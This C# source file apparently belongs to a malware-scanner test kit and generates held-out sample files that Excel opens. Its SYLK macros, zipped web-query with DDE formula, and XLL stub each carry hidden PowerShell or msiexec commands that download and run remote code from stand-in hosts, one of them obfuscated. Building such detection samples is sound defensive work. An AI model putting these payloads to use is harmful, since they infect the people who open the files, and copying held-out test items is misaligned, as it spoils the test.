using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Small files that Excel opens: symbolic links with macros, web queries, connections, add-ins.</summary>
public sealed class SpreadsheetQueries : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("payment.slk", Dos("ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"CMD.EXE /c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.190/p.ps1')\")\nC;X1;Y102;K0;EHALT()\nE\n"));
        var query = Dos("WEB\n1\nhttp://invoice-feeds.example/2.dat\n2\nSelection=AllTables\nFormatting=None\nPreFormattedTextToColumns=True\nConsecutiveDelimitersAsOne=True\nSingleBlockTextImport=False\nDisableDateRecognition=False\nDisableRedirections=False\n");
        yield return ("Unpaid_invoice_3391.zip", InertFiles.Zip(("Unpaid_invoice_3391.iqy", query), ("2.dat", Utf8("=cmd|' /c C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c IEX ((new-object net.webclient).downloadstring(\\\"http://invoice-feeds.example/1.dat\\\"))'!A0\r\n"))));
        yield return ("Fees.slk", Dos("ID;PSCALC3\nP;PGeneral\nP;P_(* #,##0_);;_(* \\-#,##0_);;_(* \"-\"_);;_(@_)\nO;E\nNN;NAuto_Open\u001b ;ER7C1;F\nC;X2;Y1;K\"Fees 2027\"\nC;X1;Y7;EFORMULA(CHAR(61)&\"EX\"&\"EC(\"\"m\"&CHAR(115)&\"iexec /q /i h\"&\"ttp://192.0.2.191/f\"&CHAR(46)&\"msi\"\")\",R20C4)\nC;X1;Y8;EGOTO(R20C4)\nC;X4;Y21;EHALT()\nE\n"));
        yield return ("TaxCalculator.xll", new EighthImage { IsLibrary = true }.Runtime().Importing("KERNEL32.dll", "VirtualAlloc CreateThread CreateProcessA FindResourceA LoadResource LockResource").Importing("urlmon.dll", "URLDownloadToFileA").Exporting("TaxCalculator.xll", "xlAutoClose xlAutoOpen xlAutoRemove")
            .With("powershell -windowstyle hidden -ep bypass -file %s", "XLCALL32.DLL", "https://tax-calc.example/t.ps1", "%APPDATA%\\t.ps1").Resource(10, 7, Noise(26000, 55)).Build());
    }
}
